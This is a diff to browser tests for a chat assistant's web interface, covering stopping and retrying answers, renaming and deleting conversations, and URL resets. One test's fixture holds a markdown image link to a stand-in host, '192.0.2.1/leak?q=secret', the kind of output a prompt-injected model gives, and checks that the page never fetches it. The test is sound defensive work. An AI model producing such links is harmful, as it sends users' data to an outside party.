@@ -79,6 +79,7 @@ def test_the_opened_page_leaves_everything_beside_it_usable(app, open_page):
     assert source.bounding_box()["x"] + source.bounding_box()["width"] <= picture.bounding_box()["x"], "beside, not under it"
     page.get_by_role("button", name="New question").click()
     expect(page.get_by_text("What would you like to know?")).to_be_visible()
+    expect(page).to_have_url(f"{app.url}/")
     expect(picture).to_have_count(0)
 
 
@@ -198,6 +199,24 @@ def test_stop_keeps_the_words_and_the_next_try_answers_in_their_place(model_app,
     expect(page.get_by_role("group", name="Chat message from assistant")).to_have_count(1)
 
 
+def test_an_answer_is_stopped_before_its_first_word_and_left_alone_while_it_is_written(model_app, open_page, gate):
+    words = gate("", "never said")
+    page = open_page(model_app.url)
+    ask(page, QUESTION)
+    stop = page.get_by_role("button", name="Stop")
+    before = stop.bounding_box()
+    stop.click()
+    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
+    words.opened.set()
+    gate("Three ", "are required [1].")
+    page.get_by_role("button", name="Try again").click()
+    expect(last_answer(page)).to_contain_text("Three")
+    assert stop.bounding_box() == before, "in the same place, however long the answer is"
+    page.get_by_role("button", name="New question").click()
+    expect(page.get_by_text("What would you like to know?")).to_be_visible()
+    expect(page).to_have_url(f"{model_app.url}/")
+
+
 def test_a_picture_that_a_model_was_talked_into_is_never_fetched(model_app, open_page, gate):
     gate("See ", "![chart](http://192.0.2.1/leak?q=secret) [1].").opened.set()
     page = open_page(model_app.url)
@@ -218,6 +237,9 @@ def test_conversations_are_kept_renamed_and_deleted_and_are_not_others(model_app
     expect(other.get_by_text("How many written quotations")).to_have_count(0)
 
     menu(page, row, "Rename")
+    page.get_by_role("textbox", name="Name").fill("Quotations and all that one has to know of them " * 4)
+    page.get_by_role("button", name="Save").click()
+    expect(page.get_by_role("dialog").get_by_text("80 are the most that fit")).to_be_visible()
     page.get_by_role("textbox", name="Name").fill("Quotations")
     page.get_by_role("button", name="Save").click()
     expect(row).to_contain_text("Quotations")
@@ -227,6 +249,7 @@ def test_conversations_are_kept_renamed_and_deleted_and_are_not_others(model_app
     page.get_by_role("dialog").get_by_role("button", name="Delete").click()
     expect(page.get_by_text("What would you like to know?")).to_be_visible()
     expect(row).to_have_count(0)
+    expect(page).to_have_url(f"{model_app.url}/")
 
 
 @pytest.mark.parametrize("path", ["", "/documents", "/search?words=tender", "/glossary"])
